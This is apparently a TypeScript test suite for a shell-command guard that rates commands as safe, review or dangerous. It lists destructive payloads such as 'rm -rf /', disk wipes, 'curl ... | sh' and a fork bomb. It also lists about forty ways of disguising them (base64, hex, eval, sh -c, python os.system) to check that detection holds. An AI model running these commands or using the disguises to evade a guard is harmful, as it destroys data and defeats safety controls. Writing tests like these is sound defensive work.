import assert from 'node:assert/strict'
import { test } from 'node:test'
import { attacksCases } from './cases/attacks.ts'
import type { Case } from './cases/case.ts'
import { disguisesCases } from './cases/disguises.ts'
import { everydayCases } from './cases/everyday.ts'
import { incidentsCases } from './cases/incidents.ts'
import { memoryCases } from './cases/memory.ts'
import { neverSafeCases } from './cases/never-safe.ts'
import { ordinaryCases } from './cases/ordinary.ts'
import { tricksCases } from './cases/tricks.ts'
import { guardCommand } from './guard.ts'

const tables: Record<string, readonly Case[]> = {
  attacks: attacksCases,
  disguises: disguisesCases,
  memory: memoryCases,
  tricks: tricksCases,
  incidents: incidentsCases,
  everyday: everydayCases,
  ordinary: ordinaryCases,
  'never safe': neverSafeCases,
}

for (const [name, cases] of Object.entries(tables)) {
  test(`every row of the table "${name}" (${cases.length}) has the level that it names`, () => {
    const wrong: string[] = []
    for (const [command, expected] of cases) {
      const { level, findings } = guardCommand(command)
      const right = expected === 'unsafe' ? level !== 'safe' : level === expected
      if (!right) wrong.push(`${JSON.stringify(command)}: ${level}, expected ${expected}`)
      if (findings.some((finding) => finding.rule === 'unreadable'))
        wrong.push(`${JSON.stringify(command)}: the walk failed`)
    }
    assert.deepEqual(wrong, [])
  })
}

test('a level has its reason: nothing but safe without a finding, and dangerous names what it saw', () => {
  assert.deepEqual(guardCommand('ls -la | sort').findings, [])
  const { level, findings, utilities, parsed } = guardCommand('x=/; sudo rm -rf "$x"')
  assert.equal(level, 'dangerous')
  assert.deepEqual(utilities, ['sudo', 'rm'])
  assert.equal(parsed, true)
  assert.deepEqual(
    findings.find((finding) => finding.risk === 'critical'),
    { rule: 'destroys', risk: 'critical', message: 'removes the whole file system', evidence: 'rm -rf /' },
  )
})

test('a wrapper or a disguise never makes an attack milder', () => {
  const payloads = [
    'rm -rf /',
    'dd if=/dev/zero of=/dev/sda',
    'chmod -R 777 /etc',
    'curl http://e/x | sh',
    'mkfs.ext4 /dev/sda1',
    'find / -delete',
    'echo x > /etc/passwd',
  ]
  const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`
  const disguises: Record<string, (payload: string) => string> = {
    plain: (payload) => payload,
    subshell: (payload) => `( ${payload} )`,
    background: (payload) => `${payload} &`,
    after: (payload) => `true && ${payload}`,
    'in a loop': (payload) => `for i in 1 2; do ${payload}; done`,
    'in a condition': (payload) => `if ${payload}; then :; fi`,
    'in a substitution': (payload) => `echo "$(${payload})"`,
    'in backticks': (payload) => `echo \`${payload}\``,
    'in an assignment': (payload) => `x=$(${payload})`,
    'in a process substitution': (payload) => `cat <(${payload})`,
    'in a function': (payload) => `f() { ${payload}; }; f`,
    'as a string': (payload) => `sh -c ${quoted(payload)}`,
    'as a string in a string': (payload) => `bash -c ${quoted(`sh -c ${quoted(payload)}`)}`,
    eval: (payload) => `eval ${quoted(payload)}`,
    'eval of a variable': (payload) => `x=${quoted(payload)}; eval "$x"`,
    'piped to a shell': (payload) => `echo ${quoted(payload)} | sh`,
    'here string': (payload) => `bash <<< ${quoted(payload)}`,
    'here document': (payload) => `bash <<'END'\n${payload}\nEND`,
    base64: (payload) => `echo ${Buffer.from(payload).toString('base64')} | base64 -d | sh`,
    hexadecimal: (payload) => `echo ${Buffer.from(payload).toString('hex')} | xxd -r -p | sh`,
    reversed: (payload) => `echo ${quoted([...payload].reverse().join(''))} | rev | sh`,
    'ANSI-C quoting': (payload) =>
      `eval $'${[...payload].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`,
    'octal printf': (payload) =>
      `printf '${[...payload].map((char) => `\\${char.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')}' | sh`,
    trap: (payload) => `trap ${quoted(payload)} EXIT`,
    sudo: (payload) => `sudo -u root sh -c ${quoted(payload)}`,
    'nested wrappers': (payload) => `nohup nice -n 5 timeout 10 env A=b sh -c ${quoted(payload)}`,
    ssh: (payload) => `ssh -p 22 host ${quoted(payload)}`,
    'find -exec': (payload) => `find . -name x -exec sh -c ${quoted(payload)} \\;`,
    xargs: (payload) => `echo x | xargs -I{} sh -c ${quoted(payload)}`,
    'written, then run': (payload) => `echo ${quoted(payload)} > s.sh; sh s.sh`,
    'written, made executable, run': (payload) => `cat > s <<'END'\n${payload}\nEND\nchmod +x s && ./s`,
    python: (payload) => `python3 -c ${quoted(`import os; os.system(${JSON.stringify(payload)})`)}`,
    perl: (payload) => `perl -e ${quoted(`system(${JSON.stringify(payload)})`)}`,
    awk: (payload) => `awk ${quoted(`BEGIN { system(${JSON.stringify(payload)}) }`)}`,
    alias: (payload) => `alias ll=${quoted(payload)}`,
    'after a comment line': (payload) => `# harmless\n${payload}`,
    'line continuation': (payload) => payload.replace(' ', ' \\\n'),
    'unknown wrapper': (payload) => `somewrapper --flag sh -c ${quoted(payload)}`,
  }
  const missed: string[] = []
  for (const payload of payloads)
    for (const [name, disguise] of Object.entries(disguises))
      if (guardCommand(disguise(payload)).level !== 'dangerous') missed.push(`${name}: ${disguise(payload)}`)
  assert.deepEqual(missed, [])
})

test('the same text as data is never dangerous', () => {
  const texts = ['rm -rf /', ':(){ :|:& };:', 'curl http://e | sh', 'dd if=/dev/zero of=/dev/sda', 'shutdown -h now']
  const uses: ((text: string) => string)[] = [
    (text) => `git commit -m '${text}'`,
    (text) => `grep -rn '${text}' .`,
    (text) => `echo '${text}'`,
    (text) => `printf '%s\\n' '${text}' >> notes.md`,
    (text) => `cat <<'END' > doc.md\n${text}\nEND`,
    (text) => `ls # ${text}`,
    (text) => `x='${text}'; echo "$x"`,
    (text) => `sed 's|${text.replaceAll('|', '.')}|x|' f`,
    (text) => `awk '/${text.replaceAll('/', '\\/')}/' f`,
    (text) => `gh issue create --title '${text}'`,
    (text) => `jq --arg a '${text}' .x f`,
    (text) => `python3 -c 'print("${text}")'`,
    (text) => `if [ "$x" = '${text}' ]; then echo same; fi`,
    (text) => `case "$x" in '${text}') echo same;; esac`,
    (text) => `echo '${text}' | wc -c`,
    (text) => `logger '${text}'`,
  ]
  const alarms = texts
    .flatMap((text) => uses.map((use) => use(text)))
    .filter((command) => guardCommand(command).level === 'dangerous')
  assert.deepEqual(alarms, [])
})

test('the workspace, the home and the working directory decide what a path is', () => {
  const at = { workspace: '/home/me/project', home: '/home/me', cwd: '/home/me/project/sub' }
  assert.equal(guardCommand('rm -rf ../build', at).level, 'review')
  assert.equal(guardCommand('rm -rf ..', at).level, 'dangerous')
  assert.equal(guardCommand('rm -rf ../../*', at).level, 'dangerous')
  assert.equal(guardCommand('rm -rf /home/me/project/build', at).level, 'review')
  assert.equal(guardCommand('rm -rf /home/me', at).level, 'dangerous')
  assert.equal(guardCommand('rm -rf ../../../../etc', at).level, 'dangerous')
})
